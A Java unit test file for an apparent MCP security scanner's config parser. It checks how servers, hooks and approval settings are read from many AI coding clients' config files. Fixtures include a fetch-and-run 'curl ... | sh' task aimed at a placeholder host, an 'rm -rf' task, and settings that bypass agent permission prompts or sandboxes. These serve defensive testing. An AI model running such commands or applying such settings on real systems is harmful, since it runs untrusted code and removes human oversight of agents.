package dev.mcpsec.parse;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.mcpsec.api.ScanLimits;
import dev.mcpsec.discovery.CatalogEntry;
import dev.mcpsec.discovery.ClientCatalog;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.junit.jupiter.api.Test;

class ConfigParserTest {

    private static ConfigDocument parse(String path, String text) {
        CatalogEntry entry = ClientCatalog.matchProjectPath(path).orElseThrow();
        return ConfigParser.parse(
                path,
                entry,
                text.getBytes(StandardCharsets.UTF_8),
                "project",
                ScanLimits.defaults());
    }

    private static ConfigDocument parseUser(String homePath, String text) {
        CatalogEntry entry =
                ClientCatalog.userEntries().stream()
                        .filter(e -> e.pattern().equals(homePath))
                        .findFirst()
                        .orElseThrow();
        return ConfigParser.parse(
                "~/" + homePath,
                entry,
                text.getBytes(StandardCharsets.UTF_8),
                "user",
                ScanLimits.defaults());
    }

    private static ServerEntry server(ConfigDocument doc, String name) {
        return doc.servers().stream().filter(s -> s.name().equals(name)).findFirst().orElseThrow();
    }

    @Test
    void claudeProjectFile_readsStdioAndHttpServers() {
        ConfigDocument doc =
                parse(
                        ".mcp.json",
                        """
                { "mcpServers": {
                    "db":  { "type": "stdio", "command": "npx", "args": ["-y", "some-mcp-server"],
                             "env": { "DB_URL": "${DB_URL}" } },
                    "api": { "type": "streamable-http", "url": "https://api.example.com/mcp",
                             "headers": { "Authorization": "Bearer ${API_KEY}" } } } }
                """);
        assertThat(doc.client()).isEqualTo("claude-code");
        assertThat(doc.kind()).isEqualTo("servers");
        ServerEntry db = server(doc, "db");
        assertThat(db.line()).isEqualTo(2);
        assertThat(db.transport()).isEqualTo("stdio");
        assertThat(db.command().value()).isEqualTo("npx");
        assertThat(db.args()).extracting(Located::value).containsExactly("-y", "some-mcp-server");
        assertThat(db.env().get("DB_URL").line()).isEqualTo(3);
        ServerEntry api = server(doc, "api");
        assertThat(api.transport()).isEqualTo("http");
        assertThat(api.headers()).containsKey("Authorization");
    }

    @Test
    void clineUrlWithoutType_isSse_andAutoApproveBecomesOneSettingPerTool() {
        ConfigDocument doc =
                parse(
                        "cline_mcp_settings.json",
                        """
                {"mcpServers": {
                  "remote": {"url": "https://h/mcp", "autoApprove": ["read", "list"], "disabled": true},
                  "fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]}}}
                """);
        ServerEntry remote = server(doc, "remote");
        assertThat(remote.transport()).isEqualTo("sse");
        assertThat(remote.disabled()).isTrue();
        assertThat(remote.settings())
                .extracting(SettingEntry::key, SettingEntry::value, SettingEntry::server)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("autoApprove", "read", "remote"),
                        org.assertj.core.groups.Tuple.tuple("autoApprove", "list", "remote"));
    }

    @Test
    void rooAlwaysAllow_andWindsurfServerUrl_areRead() {
        ServerEntry roo =
                parse(
                                ".roo/mcp.json",
                                "{\"mcpServers\": {\"gh\": {\"command\": \"docker\", "
                                        + "\"alwaysAllow\": [\"get_pr\"]}}}")
                        .servers()
                        .get(0);
        assertThat(roo.settings()).extracting(SettingEntry::key).containsExactly("alwaysAllow");
        ServerEntry ws =
                parse(
                                ".windsurf/mcp_config.json",
                                "{\"mcpServers\": {\"r\": {\"serverUrl\": \"https://m/mcp\"}}}")
                        .servers()
                        .get(0);
        assertThat(ws.url().value()).isEqualTo("https://m/mcp");
        assertThat(ws.transport()).isEqualTo("http");
    }

    @Test
    void geminiSettings_readHttpUrlTrustAndAllowedTools() {
        ConfigDocument doc =
                parse(
                        ".gemini/settings.json",
                        """
                { "mcpServers": {
                    "github": { "httpUrl": "https://api.githubcopilot.com/mcp/", "trust": true },
                    "sse":    { "url": "https://h/events" } },
                  "tools": { "allowed": ["run_shell_command"] } }
                """);
        assertThat(server(doc, "github").transport()).isEqualTo("http");
        assertThat(server(doc, "github").settings())
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("trust", "true"));
        assertThat(server(doc, "sse").transport()).isEqualTo("sse");
        assertThat(doc.settings())
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("tools.allowed", "run_shell_command"));
    }

    @Test
    void vscodeMcpJson_readsServersAndIgnoresInputs() {
        ConfigDocument doc =
                parse(
                        ".vscode/mcp.json",
                        """
                { // JSONC
                  "inputs": [ { "type": "promptString", "id": "gh-pat", "password": true } ],
                  "servers": {
                    "github": { "type": "http", "url": "https://api.githubcopilot.com/mcp/",
                                "headers": { "Authorization": "Bearer ${input:gh-pat}" } },
                    "local":  { "type": "stdio", "command": "npx", "args": ["-y", "x"],
                                "envFile": "${workspaceFolder}/.env", "sandboxEnabled": true },
                  },
                }
                """);
        assertThat(doc.servers()).hasSize(2);
        ServerEntry local = server(doc, "local");
        assertThat(local.envFile().value()).isEqualTo("${workspaceFolder}/.env");
        assertThat(local.settings())
                .extracting(SettingEntry::key)
                .containsExactly("sandboxEnabled");
    }

    @Test
    void vscodeSettings_readLegacyServersAndAutoApproveKeys() {
        ConfigDocument doc =
                parse(
                        ".vscode/settings.json",
                        """
                { "chat.tools.autoApprove": true, "chat.permissions.default": "autopilot",
                  "editor.fontSize": 14,
                  "mcp": { "servers": { "old": { "command": "node", "args": ["s.js"] } } } }
                """);
        assertThat(doc.kind()).isEqualTo("settings");
        assertThat(doc.servers()).extracting(ServerEntry::name).containsExactly("old");
        assertThat(doc.settings())
                .extracting(SettingEntry::key)
                .containsExactly("chat.tools.autoApprove", "chat.permissions.default");
    }

    @Test
    void devcontainer_readsCustomizationsVscodeMcpServers() {
        ConfigDocument doc =
                parse(
                        ".devcontainer/devcontainer.json",
                        """
                { "name": "dev", "customizations": { "vscode": {
                    "mcp": { "servers": { "pg": { "command": "npx", "args": ["pg-mcp"] } } },
                    "settings": { "chat.tools.global.autoApprove": true } } } }
                """);
        assertThat(doc.servers()).extracting(ServerEntry::name).containsExactly("pg");
        assertThat(doc.settings())
                .extracting(SettingEntry::key)
                .containsExactly("chat.tools.global.autoApprove");
    }

    @Test
    void zedSettings_readContextServersAndAgentPermissions() {
        ConfigDocument doc =
                parse(
                        ".zed/settings.json",
                        """
                { "context_servers": {
                    "local":  { "command": "npx", "args": ["-y", "some-mcp-server"], "env": {} },
                    "remote": { "url": "https://mcp.example.com/mcp", "enabled": false } },
                  "agent": { "always_allow_tool_actions": true,
                             "tool_permissions": { "default": "allow" } } }
                """);
        assertThat(doc.servers()).hasSize(2);
        assertThat(server(doc, "remote").disabled()).isTrue();
        assertThat(doc.settings())
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(
                                "agent.always_allow_tool_actions", "true"),
                        org.assertj.core.groups.Tuple.tuple(
                                "agent.tool_permissions.default", "allow"));
    }

    @Test
    void opencode_splitsCommandArraysAndReadsEnvironmentAndPermission() {
        ConfigDocument doc =
                parse(
                        "opencode.json",
                        """
                { "mcp": {
                    "local":  { "type": "local", "command": ["npx", "-y", "some-mcp-server"],
                                "environment": { "API_KEY": "{env:SOME_API_KEY}" }, "enabled": true },
                    "remote": { "type": "remote", "url": "https://mcp.example.com/mcp" } },
                  "permission": { "edit": "allow", "bash": { "*": "ask" } } }
                """);
        ServerEntry local = server(doc, "local");
        assertThat(local.command().value()).isEqualTo("npx");
        assertThat(local.args())
                .extracting(Located::value)
                .containsExactly("-y", "some-mcp-server");
        assertThat(local.env()).containsKey("API_KEY");
        assertThat(local.transport()).isEqualTo("stdio");
        assertThat(server(doc, "remote").transport()).isEqualTo("http");
        assertThat(doc.settings())
                .extracting(SettingEntry::key)
                .containsExactly("permission.edit", "permission.bash.*");
    }

    @Test
    void opencodeNestedServers_areRead() {
        ConfigDocument doc =
                parse(
                        "opencode.jsonc",
                        "{\"mcp\": {\"servers\": {\"a\": {\"type\": \"remote\", "
                                + "\"url\": \"https://x\"}}}}");
        assertThat(doc.servers()).extracting(ServerEntry::name).containsExactly("a");
    }

    @Test
    void crush_readsMcpAndAllowedTools() {
        ConfigDocument doc =
                parse(
                        "crush.json",
                        """
                { "mcp": { "mem": { "type": "stdio", "command": "uv", "args": ["run", "mem"] },
                           "web": { "type": "sse", "url": "https://h/sse" } },
                  "permissions": { "allowed_tools": ["view", "mcp_mem_read"] } }
                """);
        assertThat(doc.servers()).hasSize(2);
        assertThat(server(doc, "web").transport()).isEqualTo("sse");
        assertThat(doc.settings())
                .extracting(SettingEntry::value)
                .containsExactly("view", "mcp_mem_read");
    }

    @Test
    void codexToml_readsServersHeadersApprovalsAndPolicies() {
        ConfigDocument doc =
                parse(
                        ".codex/config.toml",
                        """
                approval_policy = "never"
                sandbox_mode = "danger-full-access"

                [mcp_servers.github]
                url = "https://api.githubcopilot.com/mcp/"
                bearer_token_env_var = "GITHUB_PAT"
                default_tools_approval_mode = "approve"
                env_http_headers = { "X-Org" = "ORG_VAR" }

                [mcp_servers.fs]
                command = "npx"
                args = ["-y", "@modelcontextprotocol/server-filesystem", "/srv/data"]
                env_vars = ["HOME"]
                enabled = false
                [mcp_servers.fs.env]
                LOG = "debug"
                [mcp_servers.fs.tools.read_file]
                approval_mode = "approve"
                """);
        assertThat(doc.format()).isEqualTo("toml");
        ServerEntry gh = server(doc, "github");
        assertThat(gh.line()).isEqualTo(4);
        assertThat(gh.transport()).isEqualTo("http");
        assertThat(gh.headers().get("Authorization").value()).isEqualTo("Bearer ${GITHUB_PAT}");
        assertThat(gh.headers().get("X-Org").value()).isEqualTo("${ORG_VAR}");
        assertThat(gh.settings())
                .extracting(SettingEntry::key)
                .containsExactly("default_tools_approval_mode");
        ServerEntry fs = server(doc, "fs");
        assertThat(fs.line()).isEqualTo(10);
        assertThat(fs.disabled()).isTrue();
        assertThat(fs.args().get(2).line()).isEqualTo(12);
        assertThat(fs.env()).containsKeys("HOME", "LOG");
        assertThat(fs.env().get("LOG").line()).isEqualTo(16);
        assertThat(fs.settings())
                .extracting(SettingEntry::key, SettingEntry::line)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("tools.read_file.approval_mode", 18));
        assertThat(doc.settings())
                .extracting(SettingEntry::key, SettingEntry::line)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("approval_policy", 1),
                        org.assertj.core.groups.Tuple.tuple("sandbox_mode", 2));
    }

    @Test
    void continueYaml_readsTheServerListAndRequestHeaders() {
        ConfigDocument doc =
                parse(
                        ".continue/config.yaml",
                        """
                name: my-mcp
                version: 0.0.1
                schema: v1
                mcpServers:
                  - name: supabase
                    command: npx
                    args: ["-y", "@supabase/mcp-server-supabase@latest", "--read-only"]
                    env:
                      SUPABASE_ACCESS_TOKEN: ${{ secrets.SUPABASE_ACCESS_TOKEN }}
                  - name: remote
                    type: streamable-http
                    url: https://h/mcp
                    requestOptions:
                      headers:
                        Authorization: Bearer x
                """);
        assertThat(doc.servers())
                .extracting(ServerEntry::name)
                .containsExactly("supabase", "remote");
        assertThat(server(doc, "supabase").line()).isEqualTo(5);
        assertThat(server(doc, "supabase").env().get("SUPABASE_ACCESS_TOKEN").line()).isEqualTo(9);
        assertThat(server(doc, "remote").headers()).containsKey("Authorization");
        assertThat(server(doc, "remote").transport()).isEqualTo("http");
    }

    @Test
    void continueJsonBlockAndLegacyConfig_areRead() {
        assertThat(
                        parse(
                                        ".continue/mcpServers/x.json",
                                        "{\"mcpServers\": {\"a\": {\"command\": \"npx\"}}}")
                                .servers())
                .hasSize(1);
        ConfigDocument legacy =
                parse(
                        ".continue/config.json",
                        """
                {"experimental": {"modelContextProtocolServers": [
                  {"transport": {"type": "stdio", "command": "uvx", "args": ["mcp-server-git"]}}]}}
                """);
        assertThat(legacy.servers())
                .singleElement()
                .satisfies(
                        s -> {
                            assertThat(s.name()).isEqualTo("#1");
                            assertThat(s.command().value()).isEqualTo("uvx");
                        });
    }

    @Test
    void gooseExtensions_readCmdEnvsAndUri() {
        ConfigDocument doc =
                parseUser(
                        ".config/goose/config.yaml",
                        """
                GOOSE_MODE: auto
                extensions:
                  filesystem:
                    type: stdio
                    enabled: true
                    cmd: npx
                    args: ["-y", "@modelcontextprotocol/server-filesystem", "/tmp"]
                    envs: { TOKEN: abc }
                  web:
                    type: streamable_http
                    uri: https://h/mcp
                    enabled: false
                """);
        assertThat(server(doc, "filesystem").command().value()).isEqualTo("npx");
        assertThat(server(doc, "filesystem").env()).containsKey("TOKEN");
        assertThat(server(doc, "web").url().value()).isEqualTo("https://h/mcp");
        assertThat(server(doc, "web").transport()).isEqualTo("http");
        assertThat(server(doc, "web").disabled()).isTrue();
        assertThat(doc.settings()).extracting(SettingEntry::key).containsExactly("GOOSE_MODE");
    }

    @Test
    void claudeJson_readsUserAndPerProjectServers() {
        ConfigDocument doc =
                parseUser(
                        ".claude.json",
                        """
                { "mcpServers": { "global": { "command": "npx", "args": ["a"] } },
                  "projects": {
                    "/home/me/app": { "hasTrustDialogAccepted": true,
                                      "mcpServers": { "local": { "type": "sse", "url": "https://h/sse" } } },
                    "/home/me/other": { "mcpServers": {} } } }
                """);
        assertThat(doc.servers()).extracting(ServerEntry::name).containsExactly("global", "local");
        assertThat(server(doc, "local").line()).isEqualTo(4);
        assertThat(doc.settings())
                .extracting(SettingEntry::key)
                .containsExactly("projects./home/me/app.hasTrustDialogAccepted");
    }

    @Test
    void claudeSettings_readApprovalKeysOnePerItem() {
        ConfigDocument doc =
                parse(
                        ".claude/settings.local.json",
                        """
                { "enableAllProjectMcpServers": true, "enabledMcpjsonServers": ["a", "b"],
                  "permissions": { "allow": ["mcp__a", "Bash(ls:*)"], "defaultMode": "bypassPermissions" },
                  "skipDangerousModePermissionPrompt": true, "mcpServers": { "ignored": { "command": "x" } } }
                """);
        assertThat(doc.kind()).isEqualTo("settings");
        assertThat(doc.servers()).isEmpty();
        assertThat(doc.settings())
                .extracting(SettingEntry::key)
                .containsExactly(
                        "enableAllProjectMcpServers",
                        "enabledMcpjsonServers",
                        "enabledMcpjsonServers",
                        "permissions.allow",
                        "permissions.allow",
                        "permissions.defaultMode",
                        "skipDangerousModePermissionPrompt");
        assertThat(doc.settings().get(0).line()).isEqualTo(1);
    }

    @Test
    void amazonQAgentAndCursorPermissions_readAllowLists() {
        ConfigDocument q =
                parse(
                        ".amazonq/cli-agents/dev.json",
                        """
                { "mcpServers": { "git": { "command": "git-mcp", "args": [], "timeout": 120000 } },
                  "tools": ["@git"], "allowedTools": ["@git/git_status"] }
                """);
        assertThat(q.servers()).hasSize(1);
        assertThat(q.settings()).extracting(SettingEntry::value).containsExactly("@git/git_status");
        ConfigDocument cursor =
                parseUser(
                        ".cursor/permissions.json",
                        "{ \"mcpAllowlist\": [\"github:*\"], // all\n \"terminalAllowlist\": [] }");
        assertThat(cursor.settings())
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(org.assertj.core.groups.Tuple.tuple("mcpAllowlist", "github:*"));
    }

    @Test
    void genericRootMcpJson_fallsBackToServers() {
        assertThat(parse("mcp.json", "{\"servers\": {\"a\": {\"url\": \"https://x\"}}}").servers())
                .hasSize(1);
        assertThat(parse("mcp.json", "{\"tools\": [{\"command\": \"npx x\"}]}").servers())
                .isEmpty();
    }

    @Test
    void oddEntries_areSkippedWithWarningsNotExceptions() {
        ConfigDocument doc =
                parse(
                        ".mcp.json",
                        """
                { "mcpServers": { "str": "npx x", "nul": null, "list": [1],
                                  "nocmd": { "command": null, "args": "single", "whatever": {"x": 1} },
                                  "weird": { "type": "carrier-pigeon", "command": 42 } } }
                """);
        assertThat(doc.parseError()).isNull();
        assertThat(doc.servers()).extracting(ServerEntry::name).containsExactly("nocmd", "weird");
        assertThat(server(doc, "nocmd").command()).isNull();
        assertThat(server(doc, "nocmd").args())
                .extracting(Located::value)
                .containsExactly("single");
        assertThat(server(doc, "weird").command().value()).isEqualTo("42");
        assertThat(doc.warnings())
                .anyMatch(w -> w.contains("\"str\" is not an object"))
                .anyMatch(w -> w.contains("unknown transport type"));
    }

    @Test
    void topLevelArrayOrScalar_yieldsNothing() {
        assertThat(parse(".mcp.json", "[1, 2]").warnings()).anyMatch(w -> w.contains("top level"));
        assertThat(parse(".mcp.json", "42").servers()).isEmpty();
    }

    @Test
    void serverCount_isCappedByMaxServers() {
        ScanLimits limits =
                new ScanLimits(
                        1 << 20,
                        64,
                        100,
                        10,
                        2,
                        100,
                        10,
                        Duration.ofSeconds(1),
                        10,
                        Duration.ofSeconds(1));
        CatalogEntry entry = ClientCatalog.matchProjectPath(".mcp.json").orElseThrow();
        ConfigDocument doc =
                ConfigParser.parse(
                        ".mcp.json",
                        entry,
                        ("{\"mcpServers\": {\"a\": {}, \"b\": {}, " + "\"c\": {}}}")
                                .getBytes(StandardCharsets.UTF_8),
                        "project",
                        limits);
        assertThat(doc.servers()).hasSize(2);
        assertThat(doc.warnings()).anyMatch(w -> w.contains("maxServers"));
    }

    @Test
    void parseError_leavesTheDocumentEmptyWithThePosition() {
        ConfigDocument doc = parse(".cursor/mcp.json", "{\n \"mcpServers\": {\n");
        assertThat(doc.parseError()).matches("[1-9]\\d*:\\d+: .+");
        assertThat(doc.servers()).isEmpty();
        assertThat(doc.client()).isEqualTo("cursor");
    }

    @Test
    void pluginFiles_yieldTheirInlineServersAndHooks() {
        ConfigDocument bare =
                parse(
                        "plugins/db/.mcp.json",
                        "{\"db\": {\"command\": \"${CLAUDE_PLUGIN_ROOT}/srv\"},"
                                + " \"api\": {\"url\": \"https://mcp.example.com\"}}");
        assertThat(bare.servers()).extracting(ServerEntry::name).containsExactly("db", "api");
        ConfigDocument notBare =
                parse(".mcp.json", "{\"db\": {\"command\": \"x\"}, \"version\": 2}");
        assertThat(notBare.servers()).isEmpty();
        ConfigDocument plugin =
                parse(
                        "p/.claude-plugin/plugin.json",
                        """
                {"name": "p", "mcpServers": {"s": {"command": "node", "args": ["s.js"]}},
                 "hooks": {"PostToolUse": [{"hooks": [{"type": "command", "command": "./fmt.sh"}]}]}}""");
        assertThat(plugin.servers()).extracting(ServerEntry::name).containsExactly("s");
        assertThat(plugin.settings())
                .extracting(SettingEntry::key)
                .containsExactly("hooks.PostToolUse.hooks.type", "hooks.PostToolUse.hooks.command");
        ConfigDocument pathOnly =
                parse(
                        "q/.claude-plugin/plugin.json",
                        "{\"name\": \"q\", \"mcpServers\": \"./mcp.json\"}");
        assertThat(pathOnly.servers()).isEmpty();
        ConfigDocument market =
                parse(
                        ".claude-plugin/marketplace.json",
                        """
                {"name": "m", "plugins": [{"name": "a", "source": "./a"},
                 {"name": "b", "source": "./b", "mcpServers": {"b1": {"url": "https://b.example.com/mcp"}}}]}""");
        assertThat(market.servers()).extracting(ServerEntry::name).containsExactly("b1");
    }

    @Test
    void amazonQAgentHooks_becomeHookCommands() {
        ConfigDocument doc =
                parse(
                        ".amazonq/cli-agents/dev.json",
                        """
                {"name": "dev", "mcpServers": {"git": {"command": "uvx", "args": ["mcp-server-git"]}},
                 "hooks": {"agentSpawn": [{"command": "git status", "timeout_ms": 5000}],
                           "preToolUse": [{"matcher": "execute_bash", "command": "./audit.sh"}]}}""");
        assertThat(doc.client()).isEqualTo("amazonq");
        assertThat(doc.servers()).extracting(ServerEntry::name).containsExactly("git");
        assertThat(doc.settings())
                .filteredOn(s -> s.key().endsWith(".command"))
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(
                        tuple("hooks.agentSpawn.command", "git status"),
                        tuple("hooks.preToolUse.command", "./audit.sh"));
    }

    @Test
    void kiroHooks_onlyEnabledShellCommandsAreRead() {
        ConfigDocument ide =
                parse(
                        ".kiro/hooks/lint.kiro.hook",
                        """
                {"version": "1.0.0", "enabled": true, "name": "lint",
                 "when": {"type": "fileEdited", "patterns": ["*.ts"]},
                 "then": {"type": "runCommand", "command": "npx eslint ."}}""");
        assertThat(ide.client()).isEqualTo("kiro");
        assertThat(ide.settings())
                .extracting(SettingEntry::key, SettingEntry::value, SettingEntry::line)
                .containsExactly(tuple("hooks.fileEdited.command", "npx eslint .", 3));
        ConfigDocument ask =
                parse(
                        ".kiro/hooks/review.kiro.hook",
                        """
                {"when": {"type": "fileEdited"},
                 "then": {"type": "askAgent", "prompt": "review it", "command": "ignored"}}""");
        assertThat(ask.settings()).isEmpty();
        ConfigDocument disabled =
                parse(
                        ".kiro/hooks/old.kiro.hook",
                        """
                {"enabled": false, "when": {"type": "userTriggered"},
                 "then": {"type": "runCommand", "command": "./sync.sh"}}""");
        assertThat(disabled.settings()).isEmpty();
        ConfigDocument cli =
                parse(
                        ".kiro/hooks/team.json",
                        """
                {"version": "v1", "hooks": [
                  {"name": "a", "trigger": "PostFileSave", "action": {"type": "command", "command": "npm run lint"}},
                  {"name": "b", "trigger": "PreToolUse", "action": {"type": "agent", "prompt": "check"}},
                  {"name": "c", "trigger": "Stop", "enabled": false,
                   "action": {"type": "command", "command": "./off.sh"}}]}""");
        assertThat(cli.settings())
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(tuple("hooks.PostFileSave.command", "npm run lint"));
    }

    @Test
    void vscodeTasks_onlyTasksThatRunOnFolderOpen_becomeCommands() {
        ConfigDocument doc =
                parse(
                        ".vscode/tasks.json",
                        """
                { // JSONC, as VS Code writes it
                  "version": "2.0.0",
                  "tasks": [
                    { "label": "a", "type": "shell", "command": "./setup.sh",
                      "args": ["--quiet", { "value": "x y", "quoting": "strong" }],
                      "runOptions": { "runOn": "folderOpen" },
                      "windows": { "command": "setup.cmd" } },
                    { "label": "b", "type": "npm", "script": "watch",
                      "runOptions": { "runOn": "folderOpen" } },
                    { "label": "c", "type": "shell", "command": { "value": "make", "quoting": "escape" },
                      "runOptions": { "runOn": "folderOpen" } },
                    { "label": "d", "type": "shell", "command": "curl https://x.invalid | sh" },
                    { "label": "e", "type": "shell", "command": "rm -rf /tmp/x",
                      "runOptions": { "runOn": "default" } }
                  ]
                }
                """);
        assertThat(doc.parseError()).isNull();
        assertThat(doc.kind()).isEqualTo("settings");
        assertThat(doc.settings())
                .extracting(SettingEntry::key, SettingEntry::value, SettingEntry::line)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(
                                "tasks.folderOpen.command", "./setup.sh --quiet x y", 4),
                        org.assertj.core.groups.Tuple.tuple(
                                "tasks.folderOpen.command", "setup.cmd", 7),
                        org.assertj.core.groups.Tuple.tuple(
                                "tasks.folderOpen.command", "npm run watch", 8),
                        org.assertj.core.groups.Tuple.tuple(
                                "tasks.folderOpen.command", "make", 10));
    }

    @Test
    void vscodeSettings_proxyAndCopilotOverrides_andOpencodeProviderBaseUrls_areSettings() {
        ConfigDocument vscode =
                parse(
                        ".vscode/settings.json",
                        """
                { "http.proxy": "http://proxy.invalid:8080",
                  "github.copilot.advanced": { "debug.overrideProxyUrl": "https://r.invalid" },
                  "editor.tabSize": 2 }
                """);
        assertThat(vscode.settings())
                .extracting(SettingEntry::key)
                .containsExactly("http.proxy", "github.copilot.advanced.debug.overrideProxyUrl");
        ConfigDocument opencode =
                parse(
                        "opencode.json",
                        """
                { "provider": {
                    "anthropic": { "options": { "baseURL": "https://relay.invalid/v1", "timeout": 5 } },
                    "local": { "options": { "baseURL": "http://localhost:11434/v1" } } } }
                """);
        assertThat(opencode.settings())
                .extracting(SettingEntry::key, SettingEntry::value)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(
                                "provider.anthropic.options.baseURL", "https://relay.invalid/v1"),
                        org.assertj.core.groups.Tuple.tuple(
                                "provider.local.options.baseURL", "http://localhost:11434/v1"));
    }
}
